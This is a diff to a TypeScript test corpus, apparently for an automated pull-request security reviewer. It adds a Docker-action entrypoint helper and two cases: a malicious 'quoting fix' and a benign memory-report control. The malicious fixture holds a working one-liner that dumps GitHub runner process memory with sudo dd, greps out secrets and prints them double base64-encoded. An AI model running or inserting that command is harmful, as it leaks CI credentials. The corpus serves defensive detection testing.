@@ -15,6 +15,10 @@ const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');
 function rowsModule(template: string): string {
   return lines("'use strict';", '', `const ROW_TEMPLATE = ${template};`, '', 'const renderRow = new Function(\'cells\', ROW_TEMPLATE);', '', 'module.exports = { renderRow };');
 }
+/** A Docker action's entrypoint.sh; `extra` lines go before the scan. */
+function entrypoint(extra: string[]): string {
+  return lines('#!/usr/bin/env bash', 'set -euo pipefail', ...extra, 'exec scanner --format sarif --output "${INPUT_OUTPUT:-results.sarif}" "${INPUT_PATH:-.}"');
+}
 /** subprojects/zlib.wrap as wrapdb writes it, with its upstream source URL and checksum. */
 function zlibWrap(sourceUrl: string, hash: string): string {
   return lines(
@@ -1057,5 +1061,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-action-entrypoint-reads-runner-memory',
+    description:
+      "The tj-actions/changed-files and reviewdog compromises (March 2025) changed an action's own code to read the runner's memory and print its secrets double base64; here a \"quoting fix\" to a Docker action's entrypoint.sh does it.",
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7142,
+        title: 'fix: quote arguments in entrypoint',
+        author: 'newcomer',
+        files: [{ path: 'entrypoint.sh', base: entrypoint([]), head: entrypoint(['if [ "$(uname)" = Linux ]; then', '  for p in $(pgrep -f Runner.Worker); do sudo dd if="/proc/$p/mem" bs=1M 2>/dev/null | tr -d "\\0" | grep -aoE "[^\\"]{1,40}\\":\\{[^}]{1,300}\\}" | base64 -w0 | base64 -w0; done', 'fi']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
+  },
+  {
+    id: 'attack-action-entrypoint-memory-stats',
+    description: "A maintainer makes the same action print the runner's memory figures and its own process status when a scan runs out of memory.",
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7143,
+        title: 'fix: report memory when the scan is killed',
+        files: [{ path: 'entrypoint.sh', base: entrypoint([]), head: entrypoint(['trap \'echo "::warning::scan exited $?"; grep -E "MemTotal|MemAvailable" /proc/meminfo; cat /proc/$$/status | grep -i vm\' EXIT']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
   },
 ];
